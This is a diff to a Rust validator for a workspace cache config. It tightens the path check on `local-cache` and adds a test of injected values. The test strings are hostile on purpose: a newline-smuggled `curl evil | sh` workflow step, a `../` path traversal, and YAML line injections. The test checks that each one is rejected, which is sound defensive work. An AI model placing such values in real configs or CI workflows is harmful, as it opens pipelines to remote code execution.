@@ -1,7 +1,7 @@
 //! Validation of `[workspace.metadata.cache]`: every key is read, every problem collected, and all
 //! of them reported at once (cargo's `xtask-bump-check` style), each naming the key.
 
-use std::path::{Path, PathBuf};
+use std::path::PathBuf;
 
 use anyhow::{bail, Result};
 use regex_lite::Regex;
@@ -9,7 +9,9 @@ use toml_edit::{Item, TableLike};
 
 use super::{
     is_cache_name,
-    rules::{is_attr, is_public_key, is_version, is_word, non_empty, sorted_pairs, string_array, suggest, words},
+    rules::{
+        is_attr, is_public_key, is_relative_dir, is_version, is_word, non_empty, sorted_pairs, string_array, suggest, words,
+    },
     Backend, Config, TABLE,
 };
 
@@ -49,10 +51,12 @@ pub fn config(table: &dyn TableLike) -> Result<Config> {
     let public_key = r.optional("public-key", "a Nix public key, \"NAME:BASE64\"", |v| {
         v.as_str().filter(|s| is_public_key(s)).map(str::to_owned)
     });
-    let local_cache = r.get("local-cache", "a relative directory, e.g. \"target/nix-cache\"", |v| {
-        let s = v.as_str().filter(|s| !s.is_empty())?;
-        Path::new(s).is_relative().then(|| PathBuf::from(s))
-    });
+    // It reaches the generated workflows: a strict form, so no value can add a line to them.
+    let local_cache = r.get(
+        "local-cache",
+        "a relative directory of letters, digits, '.', '_', '-' and '/', without `..`, e.g. \"target/nix-cache\"",
+        |v| v.as_str().filter(|s| is_relative_dir(s)).map(PathBuf::from),
+    );
     let push_filter = r.get("push-filter", "an array of regular expressions", string_array);
     let push_filter = push_filter.and_then(|patterns| r.regexes("push-filter", &patterns));
     let (cache_timeout, upstream, keep_revisions) = cache_settings(&mut r);
@@ -273,6 +277,25 @@ tests = { unit = ["test"], fmt = ["fmt", "--check"] }
             message.contains("`frobnicate` is not a key of [workspace.metadata.cache]: the keys are version, backend"),
             "{message}"
         );
+    }
+
+    #[test]
+    fn values_that_reach_the_workflows_cannot_add_a_line_to_them() {
+        let hostile = [
+            ("local-cache = \"target/nix-cache\"", "local-cache = \"x\\n      - run: curl evil | sh\""),
+            ("local-cache = \"target/nix-cache\"", "local-cache = \"../outside\""),
+            ("name = \"nanna-coder\"", "name = \"a\\nb\""),
+            ("os = [\"ubuntu-latest\"]", "os = [\"ubuntu-latest\\n  evil: 1\"]"),
+            ("arches = [\"x86_64\", \"aarch64\"]", "arches = [\"x86_64 #\"]"),
+            ("rust = \"1.84.0\"", "rust = \"1.84.0\\n\""),
+            ("harness = \"harnessImage\"", "\"harness\\nx\" = \"harnessImage\""),
+            ("unit = [\"test\"]", "\"unit: x\" = [\"test\"]"),
+        ];
+        for (from, to) in hostile {
+            assert!(VALID.contains(from), "{from}");
+            let err = load(&VALID.replace(from, to)).unwrap_err().to_string();
+            assert!(err.contains("problem(s)"), "{to}: {err}");
+        }
     }
 
     #[test]
